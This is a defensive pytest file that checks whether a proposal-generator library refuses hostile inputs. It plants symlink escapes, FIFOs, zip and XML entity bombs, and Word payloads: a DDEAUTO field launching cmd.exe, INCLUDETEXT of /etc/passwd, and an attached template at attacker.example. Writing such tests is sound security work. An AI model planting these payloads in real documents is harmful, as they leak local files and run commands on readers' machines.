"""A hostile library reaching outside its folder, into special files, or making the
delivered documents fetch things (issue 11, items 2–5).

Each test copies the bundled library, plants one hostile file, and renders the SaaS
sample against it: exit 2 naming the file, no traceback, nothing written; and
``propgen library check`` reports the same problem.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hostile_support import ROOT, SAMPLE
from test_library_attacks import plant

from conftest import Result
from propgen.library.store import Library

Run = Callable[..., Result]

THEME = Path("templates/theme")
FRAME = THEME / "frame.docx"


@pytest.fixture
def library(tmp_path: Path) -> Path:
    copy = tmp_path / "library"
    shutil.copytree(ROOT / "templates", copy / "templates")
    shutil.copytree(ROOT / "snippets", copy / "snippets")
    return copy


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "customers-secret.txt"
    path.write_text("ACME-SECRET-4242 password=hunter2\n", encoding="utf-8")
    return path


def render(run: Run, library: Path, tmp_path: Path, fmt: str = "docx") -> Result:
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    (out / "keep.txt").write_text("previous", encoding="utf-8")
    result: Result = run("render", SAMPLE, "-o", out, "--library", library, "--format", fmt)
    assert "Traceback" not in result.err and "unexpected failure" not in result.err, result.err
    if result.code != 0:
        assert [p.name for p in out.iterdir()] == ["keep.txt"]
    return result


def lint(run: Run, library: Path) -> Result:
    result: Result = run("library", "check", "--library", library)
    assert "Traceback" not in result.err, result.err
    return result


def refused(result: Result, path: Path, message: str) -> None:
    assert result.code == 2, result.err
    assert str(path) in result.err and message in result.err, result.err


# --- item 2: every read stays inside the library, is a regular file, is capped ---------


@pytest.mark.parametrize("fmt", ["html", "pdf"])
def test_stylesheet_linked_outside_is_refused(
    run: Run, library: Path, tmp_path: Path, secret: Path, fmt: str
) -> None:
    css = library / THEME / "print.css"
    css.unlink()
    css.symlink_to(secret)
    result = render(run, library, tmp_path, fmt)
    refused(result, css, "leads outside the library")
    assert "ACME-SECRET" not in result.out + result.err
    refused(lint(run, library), css, "leads outside the library")


def test_section_linked_outside_is_refused(run: Run, library: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.yaml"
    section = library / "snippets" / "sections" / "understanding.yaml"
    shutil.copy(section, outside)
    section.unlink()
    section.symlink_to(outside)
    refused(render(run, library, tmp_path), section, "leads outside the library")
    refused(lint(run, library), section, "leads outside the library")


def test_theme_folder_linked_outside_is_refused(run: Run, library: Path, tmp_path: Path) -> None:
    theme = library / THEME
    shutil.move(theme, tmp_path / "theme-elsewhere")
    theme.symlink_to(tmp_path / "theme-elsewhere")
    refused(render(run, library, tmp_path), theme, "leads outside the library")
    refused(lint(run, library), theme, "leads outside the library")


def test_links_inside_the_library_still_work(run: Run, library: Path, tmp_path: Path) -> None:
    css = library / THEME / "print.css"
    shutil.move(css, library / THEME / "real.css")
    css.symlink_to("real.css")
    assert render(run, library, tmp_path, "html").code == 0
    assert lint(run, library).code == 0


def test_huge_file_linked_into_the_library_is_not_read(
    run: Run, library: Path, tmp_path: Path
) -> None:
    huge = tmp_path / "huge.bin"
    with huge.open("wb") as handle:  # sparse: 1.5 GB that takes no disk
        handle.truncate(1_500_000_000)
    link = library / "snippets" / "video.bin"
    link.symlink_to(huge)
    started = time.monotonic()
    refused(render(run, library, tmp_path), link, "leads outside the library")
    assert time.monotonic() - started < 60
    refused(lint(run, library), link, "leads outside the library")


def test_oversized_file_inside_the_library_is_refused(
    run: Run, library: Path, tmp_path: Path
) -> None:
    big = library / THEME / "background.png"
    with big.open("wb") as handle:
        handle.truncate(40 * 1024 * 1024)
    refused(render(run, library, tmp_path), big, "is larger than 32 MiB")
    refused(lint(run, library), big, "is larger than 32 MiB")


def test_fifo_in_the_library_never_blocks(library: Path, tmp_path: Path) -> None:
    fifo = library / "snippets" / "sections" / "pipe.yaml"
    os.mkfifo(fifo)
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    for args in (
        ["render", str(SAMPLE), "-o", str(out), "--library", str(library), "--format", "docx"],
        ["library", "check", "--library", str(library)],
    ):
        done = subprocess.run(
            [sys.executable, "-m", "propgen", *args],
            capture_output=True,
            text=True,
            timeout=120,
            env=env,
        )
        assert done.returncode == 2, done.stderr
        assert str(fifo) in done.stderr and "is not a regular file" in done.stderr, done.stderr
    assert not out.exists() or not any(out.iterdir())


def test_hostile_git_head_cannot_put_a_file_into_the_provenance(
    library: Path, secret: Path
) -> None:
    git = library / ".git"
    git.mkdir()
    (git / "HEAD").write_text(f"ref: ../../../../../../..{secret}\n", encoding="utf-8")
    assert "git_commit" not in Library(library).identity()
    (git / "HEAD").write_text(secret.read_text(encoding="utf-8"), encoding="utf-8")
    assert "git_commit" not in Library(library).identity()
    (git / "HEAD").write_text("0123456789abcdef0123456789abcdef01234567\n", encoding="utf-8")
    assert Library(library).identity()["git_commit"] == "0123456789abcdef0123456789abcdef01234567"


# --- items 3 and 5: the Word frame fetches nothing and is a sound package ---------------


def _frame_members(library: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(library / FRAME) as src:
        return {info.filename: src.read(info) for info in src.infolist()}


def _write_frame(library: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(library / FRAME, "w") as dst:
        for name, data in members.items():
            dst.writestr(name, data)


def _edit(library: Path, part: str, old: str, new: str) -> None:
    members = _frame_members(library)
    xml = members[part].decode("utf-8")
    assert old in xml, xml[:400]
    members[part] = xml.replace(old, new, 1).encode("utf-8")
    _write_frame(library, members)


_RELS = "word/_rels/document.xml.rels"
_EXTERNAL_REL = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
_RUN = "<w:r><w:t>{{{{ title }}}}</w:t></w:r>"


def _field(*pieces: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + "<w:r><w:fldChar w:fldCharType="
        '"separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _plant_hyperlink(library: Path) -> None:
    _edit(
        library,
        _RELS,
        "</Relationships>",
        _EXTERNAL_REL.format(kind="hyperlink", target="http://tracker.example/pixel"),
    )
    _edit(
        library,
        "word/document.xml",
        "</w:body>",
        '<w:p><w:hyperlink r:id="rId99"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p></w:body>',
    )


def _plant_attached_template(library: Path) -> None:
    _edit(
        library,
        "word/_rels/settings.xml.rels"
        if "word/_rels/settings.xml.rels" in _frame_members(library)
        else _RELS,
        "</Relationships>",
        _EXTERNAL_REL.format(
            kind="attachedTemplate", target="file://attacker.example/share/t.dotm"
        ),
    )
    members = _frame_members(library)
    settings = members["word/settings.xml"].decode("utf-8")
    head, sep, rest = settings.partition("<w:zoom")
    assert sep, settings[:500]
    members["word/settings.xml"] = (
        head + '<w:attachedTemplate r:id="rId99"/>' + sep + rest
    ).encode("utf-8")
    _write_frame(library, members)


def _plant_field(*pieces: str) -> object:
    def plant_it(library: Path) -> None:
        _edit(library, "word/document.xml", "</w:body>", f"<w:p>{_field(*pieces)}</w:p></w:body>")

    return plant_it


def _plant_simple_field(instruction: str) -> object:
    def plant_it(library: Path) -> None:
        _edit(
            library,
            "word/document.xml",
            "</w:body>",
            f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
            "</w:p></w:body>",
        )

    return plant_it


def _plant_linked_image(library: Path) -> None:
    _edit(
        library,
        _RELS,
        "</Relationships>",
        _EXTERNAL_REL.format(kind="image", target="file:///etc/passwd"),
    )


FRAME_ATTACKS = {
    "hyperlink to http": (_plant_hyperlink, "links to an external hyperlink"),
    "attachedTemplate": (_plant_attached_template, "attachedTemplate"),
    "INCLUDEPICTURE split over runs": (
        _plant_field(" INCLUDE", 'PICTURE "http://tracker.example/p.png" \\d '),
        "INCLUDEPICTURE",
    ),
    "INCLUDETEXT of a local file": (
        _plant_simple_field(" INCLUDETEXT &quot;/etc/passwd&quot; "),
        "INCLUDETEXT",
    ),
    "HYPERLINK field to file URL": (
        _plant_field(' HYPERLINK "file:///etc/passwd" '),
        "HYPERLINK",
    ),
    "DDEAUTO": (
        _plant_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
        "DDEAUTO",
    ),
    "linked image": (_plant_linked_image, "links to an external image"),
}


@pytest.mark.parametrize("attack", FRAME_ATTACKS, ids=list(FRAME_ATTACKS))
def test_frame_that_makes_word_fetch_is_refused(
    run: Run, library: Path, tmp_path: Path, attack: str
) -> None:
    plant_it, message = FRAME_ATTACKS[attack]
    plant_it(library)  # type: ignore[operator]
    frame = library / FRAME
    refused(render(run, library, tmp_path), frame, message)
    refused(lint(run, library), frame, message)


def test_internal_hyperlink_fields_are_fine(run: Run, library: Path, tmp_path: Path) -> None:
    _plant_field(' HYPERLINK \\l "clause-1" ')(library)  # type: ignore[operator]
    assert render(run, library, tmp_path).code == 0
    assert lint(run, library).code == 0


def _not_a_zip(library: Path) -> None:
    (library / FRAME).write_bytes(b"PK\x03\x04 this is not really a zip")


def _no_document(library: Path) -> None:
    members = _frame_members(library)
    del members["word/document.xml"]
    _write_frame(library, members)


def _broken_xml(library: Path) -> None:
    members = _frame_members(library)
    members["word/styles.xml"] = members["word/styles.xml"][:-40]
    _write_frame(library, members)


def _entity_bomb(library: Path) -> None:
    members = _frame_members(library)
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    xml = members["word/settings.xml"].decode("utf-8")
    members["word/settings.xml"] = (bomb + xml.split("?>", 1)[1]).encode("utf-8")
    _write_frame(library, members)


def _zip_bomb(library: Path) -> None:
    members = _frame_members(library)
    with zipfile.ZipFile(library / FRAME, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in members.items():
            dst.writestr(name, data)
        dst.writestr("word/media/zeros.xml", b"\0" * (70 * 1024 * 1024))


BROKEN_FRAMES = {
    "not a zip": (_not_a_zip, "is not a valid Word document"),
    "no document part": (_no_document, "no word/document.xml"),
    "malformed XML": (_broken_xml, "malformed XML"),
    "entity declarations": (_entity_bomb, "declares a DTD"),
    "zip bomb": (_zip_bomb, "unpacks to more than 64 MiB"),
}


@pytest.mark.parametrize("case", BROKEN_FRAMES, ids=list(BROKEN_FRAMES))
def test_frame_that_is_not_a_sound_package_is_refused(
    run: Run, library: Path, tmp_path: Path, case: str
) -> None:
    break_it, message = BROKEN_FRAMES[case]
    break_it(library)
    frame = library / FRAME
    refused(render(run, library, tmp_path), frame, message)
    refused(lint(run, library), frame, message)


def test_frame_linked_outside_is_refused(run: Run, library: Path, tmp_path: Path) -> None:
    frame = library / FRAME
    shutil.move(frame, tmp_path / "frame-elsewhere.docx")
    frame.symlink_to(tmp_path / "frame-elsewhere.docx")
    refused(render(run, library, tmp_path), frame, "leads outside the library")
    refused(lint(run, library), frame, "leads outside the library")


# --- item 4: every stage under the limits -------------------------------------------------


def test_slow_markdown_from_a_template_is_stopped(
    run: Run, library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """400,000 literal ``[`` (well under the 1.5 M-character cap) render in a blink and
    take markdown-it many seconds to parse, however fast the machine (100,000 printed
    through ``{{ }}`` took only 0.9 s on an idle one)."""
    monkeypatch.setenv("PROPGEN_TIME_LIMIT", "1")
    path = plant(library, text="[" * 400_000)
    started = time.monotonic()
    result = render(run, library, tmp_path)
    refused(result, path, "took longer than 1 seconds")
    assert "Markdown" in result.err
    assert time.monotonic() - started < 30


def test_template_output_beyond_the_document_cap_is_refused_before_parsing(
    run: Run, library: Path, tmp_path: Path
) -> None:
    path = plant(
        library, text="{% for i in range(20) %}{{ lipsum(n=300, html=False) }}{% endfor %}"
    )
    result = render(run, library, tmp_path)
    refused(result, path, "characters of text; a document may have at most 1,500,000")


def test_starter_template_runs_under_the_limits(
    run: Run, library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PROPGEN_TIME_LIMIT", "1")
    starter = library / "templates" / "starter" / "en-US.yaml"
    starter.write_text(
        "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
        encoding="utf-8",
    )
    result: Result = run(
        "new",
        "--industry",
        "saas",
        "--locale",
        "en-US",
        "--library",
        library,
        "-o",
        tmp_path / "new.yaml",
    )
    refused(result, starter, "took longer than 1 seconds")
    assert not (tmp_path / "new.yaml").exists()


# --- item 15: tables wider than a page ----------------------------------------------------


def _table(columns: int, cell: str, rows: int = 3) -> str:
    head = "| " + " | ".join(f"h{i}" for i in range(columns)) + " |"
    rule = "|" + "---|" * columns
    body = ["| " + " | ".join([cell] * columns) + " |" for _ in range(rows)]
    return "\n".join([head, rule, *body]) + "\n"


def test_table_with_200_columns_is_refused_quickly(run: Run, library: Path, tmp_path: Path) -> None:
    path = plant(library, text=_table(200, "x", rows=50))
    started = time.monotonic()
    result = render(run, library, tmp_path)
    refused(result, path, "has 200 columns; at most 10 fit on a page")
    assert time.monotonic() - started < 60


def test_table_whose_amounts_cannot_fit_across_the_page_is_refused(
    run: Run, library: Path, tmp_path: Path
) -> None:
    path = plant(library, text=_table(6, "$1,234,567,890.12"))
    refused(render(run, library, tmp_path), path, "without breaking a number")


def test_amounts_in_a_table_never_break_mid_number(run: Run, library: Path, tmp_path: Path) -> None:
    import pdfplumber

    amounts = ["$1,234,567,890.12", "¥98,765,432.10", "-$7,654,321.00", "12.345%"]
    row = "| Implementation services, phased | " + " | ".join(amounts) + " | notes |"
    head = "| Item | A | B | C | D | Remarks |\n|---|---|---|---|---|---|\n"
    plant(library, text=head + "\n".join([row] * 3) + "\n")
    out = tmp_path / "out"
    result: Result = run(
        "render", SAMPLE, "-o", out, "--library", library, "--only", "proposal", "--format", "pdf"
    )
    assert result.code == 0, result.err
    (pdf,) = out.glob("*.pdf")
    with pdfplumber.open(pdf) as document:
        words = [w["text"] for page in document.pages for w in page.extract_words()]
    for amount in amounts:
        assert words.count(amount) == 3, (amount, [w for w in words if any(c.isdigit() for c in w)])
